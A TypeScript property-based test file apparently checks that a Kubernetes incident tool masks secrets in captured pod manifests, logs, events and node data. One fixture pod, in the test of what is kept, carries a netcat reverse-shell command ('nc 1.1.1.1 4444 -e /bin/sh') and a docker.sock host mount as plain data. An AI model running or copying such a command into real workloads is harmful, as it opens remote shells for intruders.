import fc from 'fast-check';

import type { KubernetesClient } from '../../adapters/kubernetes/api/client';
import { captureEvidence } from '../../adapters/kubernetes/actions/evidence/capture';
import { PART_LIMIT } from '../../core/incident/evidence';
import { alertOf, contextOf } from '../support/alerts';
import { anyPod, anySecret, placesInText, planted } from '../support/anyManifest';
import { gibberish, PASSWORD, PRIVATE_KEY } from '../support/secrets';

const META = { name: 'web', namespace: 'shop', uid: '11111111-1111-4111-8111-111111111111' };

/** Many runs on a busy machine. */
const SLOW_MS = 120_000;

interface World {
  pod?: object;
  replicaSet?: object;
  deployment?: object;
  events?: object[];
  node?: object;
  log?: string;
}

/** The evidence of a pod in a cluster that holds these objects, as one text. */
async function evidenceOf({ pod, replicaSet, deployment, events = [], node, log = '' }: World) {
  const answer = (value: unknown) => () => Promise.resolve(value);
  const client = {
    server: 'https://kubernetes.test',
    watch: false,
    dropped: new AbortController().signal,
    core: {
      readNamespacedPod: answer(pod ?? { metadata: META, spec: { containers: [{ name: 'web' }] } }),
      readNamespacedPodLog: answer(log),
      listNamespacedEvent: answer({ items: events }),
      readNode: answer(node ?? { metadata: {}, status: {} }),
    },
    apps: { readNamespacedReplicaSet: answer(replicaSet ?? {}), readNamespacedDeployment: answer(deployment ?? {}) },
  } as unknown as KubernetesClient;
  const owner = { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-1', uid: META.uid, controller: true };
  const context = contextOf(alertOf(), { pod: { owner } as never });
  const evidence = await captureEvidence({ client, context, evidenceMs: 10_000, now: () => new Date() });
  expect(evidence.missing).toEqual([]);
  return evidence;
}

const controlled = (spec: object) => ({
  metadata: { ...META, ownerReferences: [{ kind: 'Deployment', name: 'web', uid: 'u', controller: true }] },
  spec,
});

describe('captured evidence', () => {
  test(
    'holds no secret of a manifest, wherever in a pod or its owners it is',
    async () => {
      await fc.assert(
        fc.asyncProperty(anySecret, anyPod, async (secret, shape) => {
          const pod = planted(shape, secret);
          const evidence = await evidenceOf({
            pod: { ...pod, metadata: { ...META, ...pod.metadata } },
            replicaSet: controlled({ template: pod }),
            deployment: { metadata: { ...META, annotations: pod.metadata.annotations }, spec: { template: pod } },
          });
          const kept = evidence.parts.map(({ content }) => content).join('\n');
          expect(kept).not.toContain(secret);
          expect(kept).not.toContain(JSON.stringify(secret).slice(1, -1));
          expect(kept).toContain('[masked: ');
        }),
        { numRuns: 150 },
      );
    },
    SLOW_MS,
  );

  test(
    'holds no secret of logs, events or the node',
    async () => {
      await fc.assert(
        fc.asyncProperty(anySecret, placesInText, async (secret, place) => {
          const text = place(secret);
          const evidence = await evidenceOf({
            log: `2026-11-21T10:15:31.000000000Z ${text.replaceAll('\n', ' ')}\n2026-11-21T10:15:32.000000000Z next\n`,
            events: [{ involvedObject: { kind: 'Pod', name: 'web', uid: META.uid }, reason: 'Failed', message: text }],
            node: {
              metadata: { labels: { 'a/token': secret } },
              status: { conditions: [{ type: 'Ready', message: text }] },
            },
          });
          expect(JSON.stringify(evidence.parts)).not.toContain(JSON.stringify(secret).slice(1, -1));
        }),
        { numRuns: 100 },
      );
    },
    SLOW_MS,
  );

  test('keeps what is no secret', async () => {
    const pod = {
      metadata: { ...META, managedFields: [{ manager: 'kubectl' }], labels: { app: 'token-service' } },
      spec: {
        containers: [
          {
            name: 'web',
            image: 'acme/secret-manager:sha-9f86d08',
            command: ['nc', '1.1.1.1', '4444', '-e', '/bin/sh'],
            env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
            volumeMounts: [{ name: 'db-password', mountPath: '/var/run/secrets/db' }],
          },
        ],
        volumes: [{ name: 'host', hostPath: { path: '/var/run/docker.sock' } }],
      },
    };
    const { parts } = await evidenceOf({ pod });
    const { managedFields: _fields, ...metadata } = pod.metadata;
    expect(JSON.parse(parts.find(({ kind }) => kind === 'manifest')?.content ?? '')).toEqual({ ...pod, metadata });
  });

  test('of a huge pod is bounded, says so, and lets others work meanwhile', async () => {
    let turns = 0;
    const timer = setInterval(() => turns++, 0);
    const env = Array.from({ length: 400 }, (_, index) => ({ name: `A${index}`, value: 'mysql -p x '.repeat(300) }));
    const { parts } = await evidenceOf({ pod: { metadata: META, spec: { containers: [{ name: 'web', env }] } } });
    clearInterval(timer);
    const manifest = parts.find(({ kind }) => kind === 'manifest');
    expect(manifest).toMatchObject({ truncated: true });
    expect(manifest?.content.length).toBe(PART_LIMIT);
    expect(turns).toBeGreaterThan(3);
  });
});

describe('a captured log', () => {
  const logOf = async (log: string) =>
    (await evidenceOf({ log })).parts.find(({ kind }) => kind === 'logs')?.content ?? '';

  test('keeps its lines', async () => {
    const log = Array.from({ length: 1000 }, (_, index) => `2026-11-21T10:15:31Z line ${index}\n`).join('');
    expect(await logOf(log)).toBe(log);
    expect(await logOf('')).toBe('');
    expect(await logOf('a\r\nb\u202e\n')).toBe('a\\u{d}\nb\\u{202e}\n');
  });

  test(
    'of any length shows no part of a private key, wherever it is',
    async () => {
      const key = PRIVATE_KEY.split('\n')
        .map((line) => `2026-11-21T10:15:31Z ${line}\n`)
        .join('');
      for (let before = 7000; before < 8300; before += 131) {
        const log = await logOf(`${'x\n'.repeat(before / 2)}${key}${'y\n'.repeat(9000)}`);
        expect(log).not.toContain(gibberish(20));
        expect(log).toContain('y\ny');
      }
    },
    SLOW_MS,
  );

  test('that the API server cut shows no half secret at its end', async () => {
    const half = `PASSWORD=${PASSWORD}\n`.repeat(3400).slice(0, 64 * 1024 - 30);
    const log = await logOf(`${half.slice(0, half.lastIndexOf('\n') + 1)}${'z'.repeat(40)} gh`.padEnd(64 * 1024, 'p'));
    expect(log).not.toContain('zz');
    expect(log.endsWith('\n[… a line of more than is read]')).toBe(true);
  });
});
